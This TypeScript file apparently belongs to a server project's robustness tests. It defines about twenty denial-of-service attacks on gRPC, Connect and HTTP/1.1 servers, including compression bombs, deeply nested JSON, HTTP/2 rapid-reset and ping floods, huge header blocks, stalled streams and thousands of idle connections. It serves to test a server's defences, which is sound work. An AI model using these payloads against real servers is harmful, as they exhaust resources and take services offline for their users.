/**
 * The attacks: each is what a client can do with little effort, and ends by itself in a bounded time.
 */
import { Buffer } from "node:buffer"
import * as zlib from "node:zlib"
import { errorCode, frameType } from "../../src/transport/http2/frames.ts"
import { data, headers, uint32 } from "../transport/http2/support.ts"
import { callOf } from "../transport/net/support.ts"
import { envelope, frame } from "../transport/support.ts"
import { Attacker, body, call, endless, hello, type Target } from "./attacker.ts"

/** What a server must speak for the attack to mean anything. */
export type Speaks = "gRPC" | "Connect" | "HTTP/1.1"

export interface Attack {
  readonly name: string
  readonly speaks: Speaks
  /** How many connections it takes. */
  readonly connections: number
  /** Does what it can to a server; what is to be closed in the end goes into the stack. */
  readonly run: (target: Target, opened: AsyncDisposableStack) => Promise<void>
}

const mebibyte = 1024 * 1024

const connection = async (target: Target, opened: AsyncDisposableStack): Promise<Attacker> =>
  opened.use(await Attacker.to(target))

/** Streams 1, 3, 5 … */
const ids = (count: number): ReadonlyArray<number> => Array.from({ length: count }, (_, i) => 2 * i + 1)

/** Many calls that are begun on as many connections as it takes, a hundred each, none of whose responses is read. */
const stalled =
  (count: number, contentType: string, window: number) =>
  async (target: Target, opened: AsyncDisposableStack): Promise<void> => {
    const head = callOf("CalcRange", contentType)
    for (let left = count; left > 0; left -= 100) {
      const attacker = (await connection(target, opened)).reads()
      const calls = ids(Math.min(left, 100)).map((id) =>
        Buffer.concat([headers(id, false, head), data(id, envelope(endless), true)]),
      )
      await attacker.send(Buffer.concat([hello(window), ...calls]))
    }
  }

/** Bytes on one connection, as far as the server takes them. */
const sent =
  (make: () => Iterable<Uint8Array>, reads = true) =>
  async (target: Target, opened: AsyncDisposableStack): Promise<void> => {
    const attacker = await connection(target, opened)
    if (reads) attacker.reads()
    for (const bytes of make()) if (!(await attacker.send(bytes))) break
  }

const unknownFields = Buffer.concat([Buffer.of(0x08, 1), Buffer.alloc(4 * mebibyte - 200, Buffer.of(0x78, 1))])

const emptyMessages = (count: number): Buffer => Buffer.alloc(7 * count, Buffer.of(0, 0, 0, 0, 2, 8, 1))

const jsonKeys = (count: number): Buffer => {
  const keys = Array.from({ length: count }, (_, i) => `"k${i}":0`)
  return Buffer.from(`{"n":1,${keys.join(",")}}`)
}

const bombs = (encoding: string, bomb: Buffer) =>
  sent(function* () {
    yield hello()
    for (const id of ids(100)) {
      yield Buffer.concat([
        headers(id, false, callOf("Calc", undefined, { "grpc-encoding": encoding })),
        body(id, envelope(bomb, 1), true),
      ])
    }
  })

const http1Call = (contentType: string, payload: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(
      `POST /pi.PiCalculator/Calc HTTP/1.1\r\nhost: x\r\ncontent-type: ${contentType}\r\ncontent-length: ${payload.length}\r\n\r\n`,
    ),
    payload,
  ])

const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8))
const reset = (id: number) => frame(frameType.rstStream, 0, id, uint32(errorCode.cancel))

export const attacks: ReadonlyArray<Attack> = [
  {
    name: "8 calls of 4 MiB of unknown fields",
    speaks: "gRPC",
    connections: 1,
    run: sent(function* () {
      yield hello()
      for (const id of ids(8)) yield call(id, "Calc", unknownFields)
    }),
  },
  {
    name: "100 calls of 4 MiB less a byte, which never end",
    speaks: "gRPC",
    connections: 1,
    run: sent(function* () {
      yield hello()
      const most = envelope(Buffer.alloc(4 * mebibyte)).subarray(0, -1)
      for (const id of ids(100)) yield Buffer.concat([headers(id, false, callOf("Calc")), body(id, most, false)])
    }),
  },
  {
    name: "10,000 streams that read nothing, gRPC",
    speaks: "gRPC",
    connections: 100,
    run: stalled(10_000, "application/grpc", 0),
  },
  {
    name: "10,000 streams that read nothing, Connect",
    speaks: "Connect",
    connections: 100,
    run: stalled(10_000, "application/connect+proto", 0),
  },
  {
    name: "2,000 endless streams with wide windows",
    speaks: "gRPC",
    connections: 20,
    run: stalled(2000, "application/grpc", 0x7fff_ffff),
  },
  {
    name: "a stream of 600,000 messages of 2 bytes, gRPC",
    speaks: "gRPC",
    connections: 1,
    run: sent(function* () {
      yield Buffer.concat([hello(), headers(1, false, callOf("Summarize"))])
      for (let i = 0; i < 60; i++) yield body(1, emptyMessages(10_000), i === 59)
    }),
  },
  {
    name: "a stream of 600,000 messages of 2 bytes, Connect",
    speaks: "Connect",
    connections: 1,
    run: sent(function* () {
      yield Buffer.concat([hello(), headers(1, false, callOf("Summarize", "application/connect+proto"))])
      for (let i = 0; i < 60; i++) yield body(1, emptyMessages(10_000), i === 59)
    }),
  },
  {
    name: "350,000 unknown keys of JSON",
    speaks: "Connect",
    connections: 1,
    run: sent(function* () {
      yield Buffer.concat([
        hello(),
        headers(1, false, callOf("Calc", "application/json")),
        body(1, jsonKeys(350_000), true),
      ])
    }),
  },
  {
    name: "JSON that is 1.9 million arrays deep",
    speaks: "Connect",
    connections: 1,
    run: sent(function* () {
      const deep = Buffer.concat([Buffer.from('{"n":'), Buffer.alloc(1_900_000, "[")])
      yield Buffer.concat([hello(), headers(1, false, callOf("Calc", "application/json")), body(1, deep, true)])
    }),
  },
  {
    name: "100 gzip bombs",
    speaks: "gRPC",
    connections: 1,
    run: bombs("gzip", zlib.gzipSync(Buffer.alloc(64 * mebibyte))),
  },
  {
    name: "100 brotli bombs",
    speaks: "gRPC",
    connections: 1,
    run: bombs("br", zlib.brotliCompressSync(Buffer.alloc(64 * mebibyte))),
  },
  {
    name: "180,000 PINGs, a byte of DATA behind each 900",
    speaks: "gRPC",
    connections: 1,
    run: sent(function* () {
      yield Buffer.concat([hello(), headers(1, false, callOf("Summarize"))])
      const some = Buffer.concat([...Array.from({ length: 900 }, () => ping), data(1, Buffer.of(0))])
      for (let i = 0; i < 200; i++) yield some
    }),
  },
  {
    name: "100,000 calls that are reset at once",
    speaks: "gRPC",
    connections: 1,
    run: sent(function* () {
      yield hello()
      const head = callOf("Calc")
      for (let from = 0; from < 100_000; from += 500) {
        yield Buffer.concat(
          Array.from({ length: 500 }, (_, i) => 2 * (from + i) + 1).flatMap((id) => [
            headers(id, false, head),
            reset(id),
          ]),
        )
      }
    }),
  },
  {
    name: "100 heads of 900 KiB",
    speaks: "gRPC",
    connections: 1,
    run: sent(function* () {
      yield hello()
      const long = callOf("Calc", undefined, { "x-long": "x".repeat(900 * 1024) })
      for (const id of ids(100)) {
        const parts: Array<Buffer> = []
        for (let at = 0; at < long.length; at += 16_384) {
          const last = at + 16_384 >= long.length
          const type = at === 0 ? frameType.headers : frameType.continuation
          parts.push(frame(type, (last ? 4 : 0) | (at === 0 ? 1 : 0), id, long.subarray(at, at + 16_384)))
        }
        yield Buffer.concat(parts)
      }
    }),
  },
  {
    name: "64 MiB behind the end of the connection",
    speaks: "gRPC",
    connections: 1,
    run: sent(function* () {
      // DATA on a stream that was never opened ends the connection.
      yield Buffer.concat([hello(), data(9, Buffer.alloc(8))])
      const more = body(9, Buffer.alloc(mebibyte), false)
      for (let i = 0; i < 64; i++) yield more
    }),
  },
  {
    name: "100,000 calls of HTTP/1.1 in a row, none of whose responses is read",
    speaks: "HTTP/1.1",
    connections: 1,
    run: sent(function* () {
      const one = http1Call("application/json", Buffer.from('{"n":999}'))
      const some = Buffer.concat(Array.from({ length: 1000 }, () => one))
      for (let i = 0; i < 100; i++) yield some
    }, false),
  },
  {
    name: "100 bodies of HTTP/1.1 of 4 MiB less a byte, which never end",
    speaks: "HTTP/1.1",
    connections: 100,
    run: async (target, opened) => {
      const most = http1Call("application/proto", Buffer.alloc(4 * mebibyte)).subarray(0, -1)
      for (let i = 0; i < 100; i++) await (await connection(target, opened)).send(most)
    },
  },
  {
    name: "5,000 connections that say nothing",
    speaks: "gRPC",
    connections: 5000,
    run: async (target, opened) => {
      for (let i = 0; i < 5000; i += 100) {
        await Promise.all(Array.from({ length: 100 }, () => connection(target, opened)))
      }
    },
  },
  {
    name: "40 connections that hold 250 calls each",
    speaks: "gRPC",
    connections: 40,
    run: async (target, opened) => {
      const head = callOf("Summarize")
      for (let i = 0; i < 40; i++) {
        const attacker = (await connection(target, opened)).reads()
        await attacker.send(Buffer.concat([hello(), ...ids(250).map((id) => headers(id, false, head))]))
      }
    },
  },
]
